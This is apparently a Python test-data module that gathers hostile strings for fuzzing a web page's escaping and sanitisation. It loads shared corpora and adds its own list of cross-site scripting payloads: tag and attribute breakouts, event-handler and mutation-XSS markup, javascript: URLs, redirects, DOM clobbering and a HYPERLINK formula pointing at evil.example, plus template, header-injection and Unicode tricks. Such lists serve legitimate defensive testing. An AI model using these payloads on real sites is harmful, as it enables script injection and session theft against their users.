"""Texts made to break pages: the sets that are shared, and some of our own."""

import json
from pathlib import Path

# Whatever runs says so by one of these, for the browser to note.
OWN = [
    # Out of the element, the attribute, the comment or the script it stands in.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</summary></details><img src=x onerror=alert(1)>",
    "</bdi></a><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "\"}' onpointerenter=alert(1) data-x='{\"",
    '{"approve": "</script><script>alert(1)</script>"}',
    # Elements that run by being there.
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/"
    "svg'><image href='1' onerror='alert(1)'/></svg>#x\"></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@keyframes x{}</style>"
    "<b style='animation-name:x' onanimationstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button>",
    "<template><script>alert(1)</script></template>",
    # What changes its meaning when it is read a second time.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select>'
    '<img src=x onerror=alert(1)>">',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "＜script＞alert(1)＜/script＞",
    # Addresses that run.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://x.com/bo/status/1",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://x.com/bo/status/1" onmouseover="alert(1)',
    "https://x.com@evil.example/bo/status/1?q='><img src=x onerror=alert(1)>",
    "//evil.example/x",
    # What leads a page elsewhere, or takes the names its scripts look for.
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<img id=desk-says><form id=undo-bar><input name=action></form>",
    "<a id=post-states data-news=https://evil.example/>",
    "<img name=getElementById><form name=querySelector>",
    "<button form=undo-bar formaction=https://evil.example/>x</button>",
    # Templates, formulas, logs.
    "{{ 7|add:7 }}{% csrf_token %}{% load static %}{# #}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    '=HYPERLINK("https://evil.example/","x")',
    "%s%n%x {0.__class__} %(password)s",
    "line\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    # Signs that turn, join or stack.
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066\u2067\u2068" * 20,
    "a" + "\u0301" * 300,
    "👩‍👩‍👧‍👦" * 40,
    "\u2028alert(1)\u2029",
    "\ufeff\u200b\u200d\u2060",
    "W" * 190,
]


def read_payloads(shared: Path) -> list[str]:
    """Every hostile text: strings, markup that was cleaned by others, and our own."""
    hostile = shared / "data" / "hostile"
    texts = json.loads((hostile / "strings" / "blns.json").read_text())
    for case in json.loads((hostile / "html" / "dompurify.json").read_text()):
        texts.append(case["payload"])
    for case in json.loads((hostile / "html" / "bleach.json").read_text()):
        texts.append(case["input"])
    return [*texts, *OWN]
